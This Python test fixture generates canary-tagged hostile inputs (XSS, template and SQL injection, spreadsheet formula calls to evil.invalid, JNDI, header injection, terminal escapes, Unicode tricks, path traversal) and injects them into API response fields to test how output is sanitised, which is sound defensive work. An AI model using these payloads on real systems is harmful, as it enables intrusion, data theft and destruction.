"""Texts that want something of whoever shows them, by what they want; and where they are put.

Every text carries `CANARY` or acts on `canary` names, so that what it did would be seen.
"""

import re
from collections.abc import Iterator
from itertools import product
from typing import Any
from zlib import crc32

CANARY = "canary77"
AWAY = "http://evil.invalid"  # in a test that counts requests: the address of its listener


def markup(away: str) -> Iterator[str]:
    script = f"document.title='{CANARY}'"
    for inside in (script, f"fetch('{away}/js')", f"alert('{CANARY}')", "parent.location='about:'"):
        yield f"<script>{inside}</script>"
        yield f"<ScRiPt\n>{inside}</sCrIpT >"
        yield f"</title></style></textarea><script>{inside}</script>"
        yield f"<img src=x onerror={inside}>"
        yield f'"><svg/onload="{inside}">'
        yield f"'><body onpageshow={inside}>"
        yield f"<details open ontoggle={inside}>"
        yield f'<a href="javascript:{inside}" autofocus onfocus={inside} tabindex=1>click</a>'
    for tag, attribute in product(
        ("img", "iframe", "embed", "object", "video", "link rel=stylesheet", "script", "audio"),
        ("src", "href", "data", "srcset", "poster"),
    ):
        yield f"<{tag} {attribute}={away}/{tag.split()[0]}>"
    yield f"<style>@import '{away}/css';*{{background:url({away}/bg)}}</style>"
    yield f"</style><style>body{{display:none;content:url('{away}/c')}}"
    yield f'x" style="background:url({away}/attr)'
    yield f"<svg><image href='{away}/svg'/><use href='{away}/u#x'/><script>{script}</script></svg>"
    yield f"<svg><animate attributeName=href values=javascript:{script} /><set onbegin={script}>"
    yield f"<svg><foreignObject><iframe src={away}/fo></iframe></foreignObject></svg>"
    yield f"<math><mtext><script>{script}</script></mtext></math>"
    yield f"<meta http-equiv=refresh content='0;url={away}/refresh'>"
    yield f"<base href='{away}/'><form action='{away}/f'><input autofocus onfocus={script}>"
    yield f"<!-- --><!--[if gte IE 4]><script>{script}</script><![endif]-->"
    yield f"<![CDATA[<script>{script}</script>]]>"
    yield f"<template><script>{script}</script></template><noscript><img src={away}/n>"
    yield f"<isindex type=image src={away}/1 onerror={script}>"
    yield f"&lt;script&gt;{script}&lt;/script&gt;&#60;script&#62;&#x3c;b&#x3e;"
    yield f"\\u003cscript\\u003e{script}\\x3c/script\\x3e"
    yield f"+ADw-script+AD4-{script}+ADw-/script+AD4-"
    yield f"</td></tr></table></main><h1>{CANARY}</h1>"
    yield f"]]></svg>--></style><b>{CANARY}</b>"
    yield f"<bdo dir=rtl>{CANARY}</bdo></bdi></bdi>"
    yield f"javascript:{script}"
    yield f"data:text/html,<script>{script}</script>"
    yield f"vbscript:msgbox({CANARY})"
    yield f"\x00<script>{script}</script>"
    yield f"<\x00script>{script}</script>"
    yield f"\ufeff<script>{script}</script>"


def templates(away: str) -> Iterator[str]:
    bodies = (
        "7*7*1009",
        "config",
        f"env_var('{CANARY}')",
        "''.__class__.__mro__",
        "self",
        "x|safe",
    )
    for body in bodies:
        yield f"{{{{ {body} }}}}"
        yield f"${{{body}}}"
        yield f"#{{{body}}}"
        yield f"<%= {body} %>"
        yield f"{{% set x = {body} %}}{{{{ x }}}}"
    yield "{% include '/etc/passwd' %}"
    yield "{% raw %}{{ x }}{% endraw %}{# comment #}"
    yield "{{ ref('stg_zendesk__users') }}{{ source('raw', 'zendesk_users') }}"
    yield "{{ run_query('drop schema marts cascade') }}"
    yield "{% do run_query('create table public." + CANARY + " ()') %}"
    yield "{{ conn.zendesk.password }} {{ var.value.secret }} {{ ti.xcom_pull('plan') }} {{ ds }}"
    yield "{{ macros.os.system('touch " + CANARY + "') }}"
    yield "{{ adapter.execute('select 1') }}{{ target.password }}"
    yield "{{ env_var('DBT_ENV_SECRET_PASSWORD') }}"
    yield "${jndi:ldap://evil.invalid/" + CANARY + "}"
    yield "%(password)s %(name)s %s %d %n %99999999d %c %%"
    yield "{0} {} {name} {0.__class__} {:>99999999} {batch} {as_of} {advice} {table}"
    yield "{batch_rows} {{batch}} }} {{ { } {{{"
    yield "$1 $2 :name :'name' :\"name\" ?::text @name @@version &x &&x"
    yield "$PATH `id` $(touch " + CANARY + ") ; touch " + CANARY + " | cat & #"
    yield "[bold red]x[/] [link=" + away + "]y[/link] [/] [not closed \\[z] :bomb: :warning:"


def statements(_: str) -> Iterator[str]:
    acts = (
        f"create table public.{CANARY} ()", "drop table raw.zendesk_tickets cascade",
        "drop schema marts cascade", f"alter role answerable rename to {CANARY}",
        "delete from ops.batches", f"copy raw.zendesk_users to program 'touch {CANARY}'",
    )  # fmt: skip
    for act, (begin, end) in product(
        acts, (("'; ", "; --"), ('"; ', '; --"'), ("$$; ", "; $$"), ("*/ ", " /*"), ("); ", ";("))
    ):
        yield f"{begin}{act}{end}"
    yield f"x' or '1'='1' union select '{CANARY}' --"
    yield "1; select pg_sleep(600); --"
    yield "'||(select current_setting('data_directory'))||'"
    yield "E'\\x27' U&'\\0027' N'x' B'1' $x$ $y$"
    yield "\\' \\\" \\\\ '' \"\" `` \u00b4 \u2019"
    yield "->>'x' #>> '{}' @> ?| ::jsonb ::regclass"


def psql_commands(_: str) -> Iterator[str]:
    for command in (
        "\\!", "\\i /etc/passwd", "\\copy raw.x from program 'id'", "\\connect", "\\q", "\\gexec",
        "\\set x `id`", "\\o |id", "\\.", "\\N", "\\,", "\\x", "\\r", "\\e", "\\if true",
    ):  # fmt: skip
        yield f"{command} touch {CANARY}"
        yield f"before\n{command}\nafter {CANARY}"
    yield "\\."
    yield "\\N"
    yield "\n\\.\n"
    yield "\t\t\t\\N\t\\\\N"
    yield "--\n/* unclosed"


def formulas(away: str) -> Iterator[str]:
    bodies = (
        f"HYPERLINK(\"{away}/?x=\"&A1;\"{CANARY}\")", f"WEBSERVICE(\"{away}/w\")",
        "cmd|' /C calc'!A0", "1+1", f"IMPORTXML(\"{away}\",\"//a\")",
        "DDE(\"cmd\";\"/C calc\";\"x\")", "SUM(1+1)*cmd|' /C calc'!A0",
    )  # fmt: skip
    signs = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", '"=', "\uff1d", "\uff0b", "\uff20")
    for sign, body in product(signs, bodies):
        yield f"{sign}{body}"
    yield f'harmless;=WEBSERVICE("{away}/semicolon")'
    yield f'harmless\t=WEBSERVICE("{away}/tab")'
    yield f'harmless\n=WEBSERVICE("{away}/line")'
    yield "harmless\r\n@SUM(1+1)\r-2+3"
    yield '"",=1+1,""\n=2+2'
    yield "-1+1-" + CANARY


def links(away: str) -> Iterator[str]:
    for target in (away, f"javascript:alert('{CANARY}')", "data:text/html;base64,PHNjcmlwdD4="):
        yield f"![x]({target}/md.png)"
        yield f'[click]({target} "title")'
        yield f"<{target}>"
        yield f"[x]: {target}\n[x]"
        yield f"<{target}|click> <!channel> <@U1> *bold*"  # as chat systems write links
    yield f"# {CANARY}\n---\n```\n> quote\n| a | b |\n|---|---|"
    yield "~~x~~ **y** __z__ \\*not\\* &amp; <br>"
    yield "@channel @here @everyone <!here>"


def headers(_: str) -> Iterator[str]:
    for end, header in product(
        ("\r\n", "\n", "\r", "\r\n ", "%0d%0a", "\u2028", "\x0b", "\x85"),
        (f"Bcc: {CANARY}@evil.invalid", f"Subject: {CANARY}", f"X-{CANARY}: 1",
         "Content-Type: text/html", f"Set-Cookie: {CANARY}=1", f"\r\n<b>{CANARY}</b>"),
    ):  # fmt: skip
        yield f"Kim{end}{header}"
    yield f'"Kim" <kim@example.com>, {CANARY}@evil.invalid'
    yield "=?utf-8?q?=0D=0ABcc:_x@evil.invalid?="
    yield "kim@example.com\r\nRCPT TO:<x@evil.invalid>\r\nDATA\r\n.\r\n"
    yield "\r\n.\r\nQUIT\r\n"


def terminal(away: str) -> Iterator[str]:
    for introducer in ("\x1b[", "\x9b", "\x1b\x1b["):
        for act in ("31m", "2J", "H", "1A", "1000D", "?1049h", "6n", "5i", "8m", "21t", "20t"):
            yield f"a{introducer}{act}{CANARY}"
    for begin, end in product(("\x1b]", "\x9d"), ("\x07", "\x1b\\", "\x9c")):
        yield f"{begin}0;{CANARY}{end}"
        yield f"{begin}2;{CANARY}{end}"
        yield f"{begin}8;;{away}{end}click{begin}8;;{end}"
        yield f"{begin}52;c;Y2FuYXJ5{end}"
        yield f"{begin}1337;File=inline=1:AAAA{end}"
    for other in ("\x1bP+q544e\x1b\\", "\x90q\x9c", "\x1bc", "\x1b(0", "\x1b#8", "\x1b_x\x1b\\",
                  "\x1b^x\x1b\\", "\x07\x07", "\x08\x08\x08", "\x7f", "\r", "\x0b\x0c", "\x0e\x0f",
                  "\x85", "\x84\x8d\x8e", "\x13", "\x05", "\x1a", "\x04", "\x00"):  # fmt: skip
        yield f"a{other}{CANARY}"
    yield f"seen{chr(8) * 4}{CANARY}"
    yield f"safe\r\x1b[K{CANARY}"


def unseen(_: str) -> Iterator[str]:
    for mark in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x61C, 0x200E, 0x200F):
        yield f"a{chr(mark)}exe.{CANARY}"
    for mark in (0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0x00AD, 0x180E, 0x3164, 0xFFF9, 0xE0041):
        yield f"can{chr(mark)}ary77"
    for mark in (0x2028, 0x2029, 0x85, 0x0B, 0x0C, 0x1C, 0x1D, 0x1E, 0x1F):
        yield f"line one{chr(mark)}{CANARY}"
    yield f"a\x00{CANARY}"
    yield f"half \ud83d {CANARY}"
    yield f"\ude00\ud83d {CANARY}"
    yield f"\udcff\udc80 {CANARY}"
    yield f"Z{chr(0x301) * 300} {CANARY}"
    yield f"\ufffe\uffff\U0010fffd {CANARY}"
    yield f"\U0001f469\u200d\U0001f467\U0001f3f4\U000e0067\U000e007f {CANARY}"
    yield "\u1160\u3164\u2800"
    yield "\ufdfa\U0001d54a\uff1cscript\uff1e \u0130\u0131 \u017f \ufb01"


def odd_shapes(_: str) -> Iterator[str]:
    yield "x" * 100_000 + CANARY
    yield "<b>" * 20_000
    yield "(" * 30_000
    yield "= " * 20_000
    yield "a;" * 20_000
    yield "".join(chr(n) for n in range(0x20)) + CANARY
    yield "".join(chr(n) for n in range(0x7F, 0xA0)) + CANARY
    yield from ("../" * 12 + "etc/passwd", "..\\..\\x", "/dev/null", "C:\\con", "file:///etc/passwd",
               f"{CANARY}/../../x", "~root/.ssh/id_rsa", "//evil.invalid/share", "nul\x00.csv",
               "%2e%2e%2f", "-rf", "--help", "-o x")  # fmt: skip
    yield from ('{"$ref": "#"}', '{"__proto__": {"x": 1}}', '"}, {"id": 1', "[1, 2", "null", "NaN",
                  "true", "-0", "1e999", "[]", "{}", '"', "'", "\\", "\\u0000", "\\ud800",
                  "!!python/object:os.system", "*alias", "&anchor x", "- item", "? key", "| block",
                  "constructor", "__class__", "toString", "\t", "\n", " ")  # fmt: skip


KINDS = (
    markup, templates, statements, psql_commands, formulas, links, headers, terminal, unseen,
    odd_shapes,
)  # fmt: skip


def corpus(away: str = AWAY) -> list[str]:
    return list(dict.fromkeys(text for kind in KINDS for text in kind(away)))


# what an output for eyes may not hold: all controls but tab and line feed, all that turns texts
ACTING = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff\ufff9-\ufffb"
    "\ud800-\udfff]"
)


class Poisoner:
    """Makes every text of answers hostile that a customer or a source's user can fill.

    The same object says the same on every page and every night. What is built of numbers, ids,
    instants, words of the API and addresses by which requests go on is left alone.
    """

    def __init__(self, away: str = AWAY, own: frozenset[str] = frozenset()) -> None:
        self.texts = corpus(away)
        self.used: set[str] = set()
        self._own = own  # accounts of ours, which are known by their names

    def __call__(self, body: dict[str, Any]) -> dict[str, Any]:
        return self._within(body, "")

    def text(self, *of: str) -> str:
        """The text in this place; neighbours in the corpus do not stand side by side."""
        found = self.texts[crc32(repr(of).encode("utf-8", "surrogatepass")) % len(self.texts)]
        self.used.add(found)
        return found

    def _within(self, value: Any, name: str) -> Any:
        if isinstance(value, list):
            return [self._within(each, name) for each in value]
        if not isinstance(value, dict):
            return value
        who = str(value.get("id", ""))
        is_somebody = value.get("role", "end-user") == "end-user" and who not in self._own
        changed: dict[str, Any] = {}
        for key, inner in value.items():
            if isinstance(inner, str) and (
                key in FREE
                or (key in IDENTIFYING and is_somebody and crc32(who.encode()) % 3 == 0)
                or (key == "value" and "user_id" in value and crc32(who.encode()) % 3 == 0)
            ):
                changed[key] = self.text(who or name, key, inner)
            elif key in FREE_LISTS and isinstance(inner, list):
                changed[key] = [*inner, self.text(who, key)]
            elif key == "custom_fields":
                changed[key] = [*inner, {"id": 1, "value": self.text(who, key)}]
            else:
                changed[key] = self._within(inner, key)
        if who or name in FREE_KEYS:  # keys are nobody's but the source's either
            changed.setdefault(self.text(who, name, "a key"), self.text(who, name, "its value"))
        return changed


FREE = frozenset(
    {"name", "alias", "details", "notes", "subject", "raw_subject", "description", "body"}
    | {"plain_body", "html_body", "comment", "text", "screen_name", "signature", "title"}
    | {"raw_title", "display_name", "message", "reason", "location"}
)
IDENTIFYING = frozenset({"email", "phone", "username"})
FREE_LISTS = frozenset({"tags", "domain_names"})
FREE_KEYS = frozenset({"user_fields", "organization_fields", "custom", "metadata", "via"})
